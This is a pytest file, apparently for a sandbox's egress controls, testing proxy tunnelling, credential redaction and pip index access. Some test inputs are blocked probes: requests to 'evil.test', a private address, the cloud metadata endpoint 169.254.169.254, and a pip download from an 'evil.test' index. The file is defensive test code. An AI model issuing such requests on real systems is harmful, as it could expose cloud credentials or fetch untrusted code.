"""The way out where this machine itself has a proxy: Proxy, and to the index that pip uses."""

import base64
import re
import socket
import threading
from collections.abc import Iterator
from ipaddress import ip_address

import pytest

from sandbox.addresses import is_public
from sandbox.buildjob import BuildSettings
from sandbox.container import Sandbox
from sandbox.image import Image
from sandbox.policy import Policy
from sandbox.trees import Base
from tests.outside import CLIENT, Names, Web, ended, listener
from tests.sandbox.egress.conftest import Run

pytestmark = [pytest.mark.docker, pytest.mark.asyncio(loop_scope="module")]


Proxy = tuple[int, list[str]]


@pytest.fixture
def proxy() -> Iterator[Proxy]:
    """A proxy as this machine may have one; and the heads of the requests that it got."""
    seen: list[str] = []

    def talk(connection: socket.socket) -> None:
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            head += connection.recv(1)
        seen.append(head.decode())
        method, target, _ = seen[-1].split(" ", 2)
        if method != "CONNECT":
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nproxy")
            return
        if "Basic" not in seen[-1]:
            connection.sendall(b"HTTP/1.1 407 Who?\r\nContent-Length: 0\r\n\r\n")
            return
        port = int(target.rpartition(":")[2])
        with socket.create_connection(("127.0.0.1", port)) as server:
            connection.sendall(b"HTTP/1.1 200 Fine\r\nX: y\r\n\r\n")
            back = threading.Thread(target=carry, args=(server, connection))
            back.start()
            carry(connection, server)
            back.join()

    with listener(talk) as port:
        yield port, seen


def carry(source: socket.socket, target: socket.socket) -> None:
    while data := source.recv(65536):
        target.sendall(data)
    target.shutdown(socket.SHUT_WR)


HTTPS = "import urllib.request as u\nprint(u.urlopen('https://index.test:{}/x').read())"


async def test_https_goes_through_the_proxy_of_this_machine(
    box: Sandbox, secure: Web, proxy: Proxy, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    port, seen = proxy
    before = len(box.requests)
    monkeypatch.setenv("HTTPS_PROXY", f"http://user:s%40crt@127.0.0.1:{port}")
    result = await run(HTTPS.format(secure.server_port))
    assert result.output.text == "b'this is /x'\n"
    assert seen[0].startswith(f"CONNECT index.test:{secure.server_port} HTTP/1.1\r\n")
    assert f"Basic {base64.b64encode(b'user:s@crt').decode()}" in seen[0]
    [last] = await ended(box, before)
    assert (last.outcome, last.address, last.via) == ("ok", "127.0.0.1", f"127.0.0.1:{port}")
    assert "crt" not in repr(last)


async def test_plain_http_goes_through_it_in_absolute_form(
    plain: Web, proxy: Proxy, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    port, seen = proxy
    monkeypatch.setenv("http_proxy", f"127.0.0.1:{port}")
    url = f"http://index.test:{plain.server_port}/x"
    assert "| proxy" in (await run(f"show(get('{url}'))")).output.text
    assert seen[0].startswith(f"GET {url} HTTP/1.1\r\n")
    assert plain.seen == []
    for spared in ("index.test", ".test", "*", f"other, index.test:{plain.server_port}"):
        monkeypatch.setenv("NO_PROXY", spared)
        assert "this is /x" in (await run(f"show(get('{url}'))")).output.text
    assert len(seen) == 1


async def test_a_name_that_only_the_proxy_knows_is_left_to_it_and_said(
    box: Sandbox, secure: Web, proxy: Proxy, run: Run, names: Names, monkeypatch: pytest.MonkeyPatch
) -> None:
    port, _ = proxy
    monkeypatch.setenv("HTTPS_PROXY", f"http://u:p@127.0.0.1:{port}")
    names.known.clear()
    async with box.fork() as other:
        result = await other.run(["python3", "-c", HTTPS.format(secure.server_port)])
        assert result.output.text == "b'this is /x'\n"
        [request] = await ended(other)
        assert request.via == f"127.0.0.1:{port}, which resolved the name"
        assert request.address == ""


async def test_the_list_counts_also_before_a_proxy(
    box: Sandbox, plain: Web, proxy: Proxy, names: Names, monkeypatch: pytest.MonkeyPatch
) -> None:
    port, seen = proxy
    for variable in ("HTTP_PROXY", "HTTPS_PROXY"):
        monkeypatch.setenv(variable, f"http://u:p@127.0.0.1:{port}")
    names.known["index.test"] = ["10.0.0.1"]
    async with box.fork() as other:
        script = (
            f"show(get('http://index.test:{plain.server_port}/'), get('http://evil.test/'),\n"
            "get('http://10.0.0.1/'), tunnel('169.254.169.254:80')[1])"
        )
        result = await other.run(["python3", "-c", CLIENT + script])
        assert result.output.text.count("HTTP/1.1 403") == 4
    assert seen == []


async def test_a_proxy_that_refuses_or_is_of_another_kind_is_said(
    secure: Web, proxy: Proxy, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    script = f"show(tunnel('index.test:{secure.server_port}')[1])"
    for url, said in (
        (f"http://127.0.0.1:{proxy[0]}", "502 this machine's proxy 127.0.0.1:"),
        ("socks5://user:s3cret@127.0.0.1:1080", "502 this machine's proxy is not of the form"),
        ("http://127.0.0.1:1", "cannot be connected to"),
    ):
        monkeypatch.setenv("HTTPS_PROXY", url)
        answer = (await run(script)).output.text
        assert said in answer
        assert "s3cret" not in answer


# -- the index of this machine ------------------------------------------------------------------


async def test_pip_downloads_from_the_real_index(image: Image, base: Base) -> None:
    ask = "from pip._internal.models.index import PyPI as p; print(p.netloc, p.file_storage_domain)"
    async with Sandbox.open(image, base, Policy()) as box:
        hosts = (await box.run(["python3", "-c", ask])).output.text.split()
    entries = []
    for host in hosts:
        try:
            address = socket.getaddrinfo(host, 443, type=socket.SOCK_STREAM)[0][4][0]
            socket.create_connection((address, 443), 5).close()
        except OSError as error:
            pytest.skip(f"the index of pip cannot be reached: {error}")
        # Where the index is mirrored, its name leads to where no public host is.
        public = is_public(ip_address(address))
        entries.append(f"{host}:443" if public else f"{host}:443@{address}")
    bundle = BuildSettings.from_environment().ca_bundle
    trusted = bundle.read_bytes() if bundle else None
    policy = Policy(network=tuple(entries))
    async with Sandbox.open(image, base, policy, ca_bundle=trusted) as box:
        done = await box.run("python3 -m pip download --no-deps -d /tmp/found six && ls /tmp/found")
        assert done.ok, done.output.text
        assert re.search(r"^six-.*\.whl$", done.output.text, re.MULTILINE)
        requests = await ended(box, count=2)
        assert {r.outcome for r in requests} == {"ok"}
        assert {r.host for r in requests} == set(hosts)
        other = await box.run("python3 -m pip download --retries 1 -i https://evil.test/simple six")
        assert "403 evil.test:443 is not on the list of places" in other.output.text
